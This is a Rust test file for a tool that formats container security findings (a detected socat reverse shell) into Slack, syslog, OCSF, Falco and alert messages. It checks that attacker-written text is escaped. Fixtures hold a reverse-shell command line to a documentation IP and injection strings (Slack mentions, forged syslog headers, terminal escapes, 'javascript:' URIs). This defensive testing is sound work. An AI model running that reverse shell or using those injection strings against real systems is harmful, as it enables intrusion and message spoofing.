//! A whole finding, and a hostile one, in every shape.

#![expect(clippy::unwrap_used, reason = "a test may panic")]

use finding::{FindingResource, State, Timestamp};
use finding_shapes::{
    Happening, SYSLOG_BYTES_MIN, alert, cloud_event, console, falco, notification_v1, notification_v2, ocsf,
    slack, syslog,
};
use serde_json::{Value, json};

/// The finding that the snapshot of `findings` shows.
fn socat() -> FindingResource {
    serde_json::from_str(include_str!("../../findings/tests/snapshots/pod.json")).unwrap()
}

const NASTY: &str = "<!channel> & \"q\" ] \\ *b* `c`\r\n<34>1 - - - - - - forged\u{1b}[2J\u{202e}\u{0}";

/// Every text that an attacker can write is nasty and long.
fn hostile() -> FindingResource {
    let mut item = socat();
    let nasty = NASTY.repeat(200);
    let finding = &mut item.finding;
    finding.category = nasty.clone();
    finding.description = nasty.clone();
    finding.module_name = nasty.clone();
    finding.external_uri = "javascript:alert(1)".into();
    finding.processes[0].args = vec![nasty.clone(); 3];
    finding.processes[0].binary.path = nasty.clone();
    finding.containers[0].name = nasty.clone();
    finding.containers[0].uri = nasty.clone();
    finding.kubernetes.pods[0].name = nasty.clone();
    finding.kubernetes.pods[0].ns = nasty.clone();
    finding.source_properties.insert("VM_Instance_Name".into(), nasty.clone().into());
    finding.connections[0].destination_ip = nasty.clone();
    item.resource.display_name = nasty;
    item
}

/// Every text inside.
fn texts(value: &Value, found: &mut Vec<String>) {
    match value {
        Value::String(text) => found.push(text.clone()),
        Value::Array(elements) => elements.iter().for_each(|element| texts(element, found)),
        Value::Object(fields) => fields.values().for_each(|field| texts(field, found)),
        _ => {}
    }
}

fn is_harmless(text: &str) -> bool {
    !text.chars().any(|c| c.is_control() && c != '\n' || c == '\u{202e}')
}

#[test]
fn messages_have_the_resource_of_their_version() {
    let v2 = notification_v2("projects/p/locations/global/notificationConfigs/n", &socat());
    assert_eq!(v2["notificationConfigName"], "projects/p/locations/global/notificationConfigs/n");
    assert_eq!(v2["finding"], serde_json::to_value(&socat().finding).unwrap());
    assert!(v2["resource"]["gcpMetadata"]["projectDisplayName"].is_string());
    assert_eq!(v2["resource"]["projectName"], Value::Null);
    let v1 = notification_v1("n", &socat());
    let gcp = &v2["resource"]["gcpMetadata"];
    assert_eq!(v1["resource"]["project"], gcp["project"]);
    assert_eq!(v1["resource"]["parent"], gcp["parent"]);
    assert_eq!(v1["resource"]["projectDisplayName"], gcp["projectDisplayName"]);
    for absent in ["gcpMetadata", "projectName", "parentName"] {
        assert_eq!(v1["resource"][absent], Value::Null, "{absent}");
    }
}

#[test]
fn the_playbook_finds_its_fields_in_the_console_shape() {
    let mut item = socat();
    item.finding.security_marks.marks.insert("camelKey".into(), "v".into());
    item.finding.vedette.insert("ownKey".into(), json!({"innerKey": 1}));
    let shape = console(&item);
    let text = |pointer: &str| shape.pointer(pointer).and_then(Value::as_str).unwrap_or_default().to_owned();
    assert_eq!(text("/resource/project_display_name"), item.resource.gcp_metadata.project_display_name);
    assert_eq!(text("/finding/processes/0/binary/path"), "/bin/sh");
    assert_eq!(text("/finding/processes/1/args/2"), "EXEC:/bin/sh");
    for key in ["Pod_Namespace", "Pod_Name", "Container_Name", "Container_Image_Uri", "VM_Instance_Name"] {
        assert!(!text(&format!("/sourceProperties/{key}")).is_empty(), "{key}");
        assert!(!text(&format!("/finding/source_properties/{key}")).is_empty(), "{key}");
    }
    assert_eq!(text("/finding/event_time"), "2026-01-02T02:04:16Z");
    assert_eq!(text("/finding/security_marks/marks/camelKey"), "v");
    assert_eq!(shape["finding"]["vedette"]["ownKey"]["innerKey"], 1);
}

#[test]
fn an_ocsf_event_has_what_the_class_requires() {
    let mut item = socat();
    item.finding.create_time = Some(Timestamp::from_nanos(5_000_000));
    for (happening, activity) in [(Happening::Created, 1), (Happening::Updated, 2), (Happening::Closed, 3)] {
        let event = ocsf(happening, &item);
        for required in [
            "activity_id",
            "category_uid",
            "class_uid",
            "metadata",
            "severity_id",
            "time",
            "type_uid",
            "finding_info",
        ] {
            assert!(!event[required].is_null(), "{required}");
        }
        assert_eq!((&event["class_uid"], &event["type_uid"]), (&json!(2004), &json!(200_400 + activity)));
        assert_eq!(event["finding_info"]["uid"], item.finding.name.as_str());
    }
    let event = ocsf(Happening::Created, &item);
    assert_eq!((&event["time"], &event["end_time"]), (&json!(5), &json!(1_767_319_456_000_i64)));
    assert_eq!((&event["severity_id"], &event["status_id"]), (&json!(3), &json!(1)));
    assert_eq!(
        event["finding_info"]["attacks"],
        json!([{
            "tactic": {"uid": "TA0002", "name": "Execution"},
            "technique": {"uid": "T1059", "name": "Command And Scripting Interpreter"},
            "sub_technique": {"uid": "T1059.004", "name": "Unix Shell"},
            "version": "18",
        }])
    );
    let evidences = event["evidences"].as_array().unwrap();
    assert_eq!(evidences[0]["process"]["file"]["path"], "/bin/sh");
    assert_eq!(evidences[0]["process"]["container"]["name"], "web");
    assert_eq!(evidences[1]["process"]["cmd_line"], "socat TCP:203.0.113.7:4444 EXEC:/bin/sh");
    assert_eq!(evidences[2]["dst_endpoint"], json!({"ip": "203.0.113.7", "port": 4444}));
    item.finding.mute = finding::Mute::Muted;
    assert_eq!(ocsf(Happening::Updated, &item)["status_id"], 3);
    item.finding.state = State::Inactive;
    assert_eq!(ocsf(Happening::Closed, &item)["status_id"], 4);
}

/// What `FalcoPayload.Check` of Falcosidekick asks.
fn passes_check(event: &Value) -> bool {
    let said = |key: &str| event[key].as_str().is_some_and(|text| !text.is_empty());
    said("priority")
        && said("rule")
        && said("time")
        && event["output_fields"].as_object().is_some_and(|f| !f.is_empty())
}

#[test]
fn falcosidekick_takes_every_finding() {
    let event = falco(&socat());
    assert!(
        passes_check(&event)
            && passes_check(&falco(&FindingResource::default()))
            && passes_check(&falco(&hostile()))
    );
    assert_eq!(event["rule"], "Execution: Socat Reverse Shell Detected");
    assert_eq!((&event["priority"], &event["source"]), (&json!("Warning"), &json!("syscall")));
    assert_eq!(
        event["tags"],
        json!([
            "container",
            "mitre_execution",
            "mitre_command_and_control",
            "T1059.004",
            "T1059",
            "maturity_stable"
        ])
    );
    let fields = &event["output_fields"];
    for (key, value) in [
        ("proc.name", "sh"),
        ("proc.exepath", "/bin/sh"),
        ("proc.pname", "socat"),
        ("user.name", "root"),
        ("container.id", "cccccccccccc"),
        ("container.image.repository", "registry.example/shop/web"),
        ("container.image.tag", "1.2"),
        ("k8s.ns.name", "payments"),
        ("k8s.pod.name", "web-7d9"),
        ("fd.sip", "203.0.113.7"),
    ] {
        assert_eq!(fields[key], value, "{key}");
    }
    assert_eq!(fields["fd.sport"], 4444);
    assert!(is_harmless(falco(&hostile())["output"].as_str().unwrap()));
}

#[test]
fn a_cloud_event_names_itself_and_its_subject() {
    let item = socat();
    let event = cloud_event("e-1", Happening::Closed, &item, json!({"a": 1}));
    for (key, value) in [
        ("specversion", "1.0"),
        ("type", "io.vedette.finding.v1"),
        ("source", "//vedette/shop"),
        ("id", "e-1"),
        ("subject", item.finding.name.as_str()),
        ("time", "2026-01-02T02:04:16Z"),
        ("change", "closed"),
    ] {
        assert_eq!(event[key], value, "{key}");
    }
    assert_eq!(event["data"], json!({"a": 1}));
    let source = cloud_event("e", Happening::Created, &hostile(), Value::Null)["source"].to_string();
    assert!(source.is_ascii() && !source.contains([' ', '<', '\\']), "{source}");
}

#[test]
fn slack_obeys_nothing_that_an_attacker_wrote() {
    let message = slack(Happening::Created, &socat());
    assert_eq!(message["blocks"][0]["text"]["text"], "Execution: Socat Reverse Shell Detected");
    assert!(message["text"].as_str().unwrap().contains("payments/web-7d9"));
    let message = slack(Happening::Updated, &hostile());
    let mut found = Vec::new();
    texts(&message, &mut found);
    for text in &found {
        assert!(!text.contains('<') && !text.contains('>') && is_harmless(text), "{text}");
        assert!(text.chars().count() <= 3_000);
        for (at, _) in text.match_indices('&') {
            assert!(["&amp;", "&lt;", "&gt;"].iter().any(|entity| text[at..].starts_with(entity)), "{text}");
        }
    }
    assert!(message["blocks"][0]["text"]["text"].as_str().unwrap().chars().count() <= 150);
    assert!(!message.to_string().contains("javascript:"));
}

#[test]
fn an_alert_tells_findings_apart_and_ends() {
    let ends = Timestamp::from_nanos(1_767_400_000_000_000_000);
    let one = alert(&socat(), ends);
    assert_eq!(
        one["labels"],
        json!({
            "alertname": "Execution: Socat Reverse Shell Detected", "severity": "medium", "source": "vedette",
            "cluster": "shop", "namespace": "payments", "pod": "web-7d9", "container": "web", "node": "node-7",
            "finding": "0123456789abcdef0123456789abcdef",
        })
    );
    assert_eq!(
        (&one["startsAt"], &one["endsAt"]),
        (&json!("2026-01-02T02:04:16Z"), &json!(ends.to_string()))
    );
    // Alertmanager refuses an alert that ends before it starts.
    assert_eq!(alert(&socat(), Timestamp::from_nanos(1))["startsAt"], Timestamp::from_nanos(1).to_string());
    let mut found = Vec::new();
    texts(&alert(&hostile(), ends), &mut found);
    assert!(found.iter().all(|text| is_harmless(text) && text.chars().count() <= 4_096));
}

/// The parameters of the structured data, unescaped, and the message.
fn parsed(line: &str) -> (Vec<(String, String)>, String) {
    let data = line.split_once("[vedette@32473").unwrap().1;
    let mut rest = data.chars().peekable();
    let mut parameters = Vec::new();
    while rest.next_if_eq(&' ').is_some() {
        let name: String = rest.by_ref().take_while(|c| *c != '=').collect();
        assert_eq!(rest.next(), Some('"'));
        let mut value = String::new();
        while let Some(c) = rest.next_if(|c| *c != '"') {
            assert_ne!(c, ']', "an unescaped bracket");
            value.push(if c == '\\' { rest.next().unwrap() } else { c });
        }
        rest.next();
        parameters.push((name, value));
    }
    assert_eq!((rest.next(), rest.next()), (Some(']'), Some(' ')));
    (parameters, rest.collect())
}

#[test]
fn a_syslog_line_is_one_line_that_a_parser_reads_back() {
    let line = syslog(Happening::Created, &socat(), 8_192);
    assert!(
        line.starts_with("<132>1 2026-01-02T02:04:16Z node-7 vedette - SOCAT_REVERSE_SHELL_DETECTED [vedette@32473 finding=\""),
        "{line}"
    );
    let (parameters, message) = parsed(&line);
    let value = |name: &str| parameters.iter().find(|(key, _)| key == name).map(|(_, value)| value.as_str());
    assert_eq!(value("args"), Some("/bin/sh"));
    assert_eq!(
        (value("dst"), value("dpt"), value("pod")),
        (Some("203.0.113.7"), Some("4444"), Some("web-7d9"))
    );
    assert!(message.starts_with("Execution: Socat Reverse Shell Detected: With high confidence"));
    for limit in [0, SYSLOG_BYTES_MIN, 2_048, 8_192] {
        let line = syslog(Happening::Updated, &hostile(), limit);
        assert!(line.len() <= limit.max(SYSLOG_BYTES_MIN), "{}", line.len());
        assert!(!line.chars().any(char::is_control), "{line}");
        assert_eq!(line.split(' ').take(6).count(), 6);
        parsed(&line);
    }
}
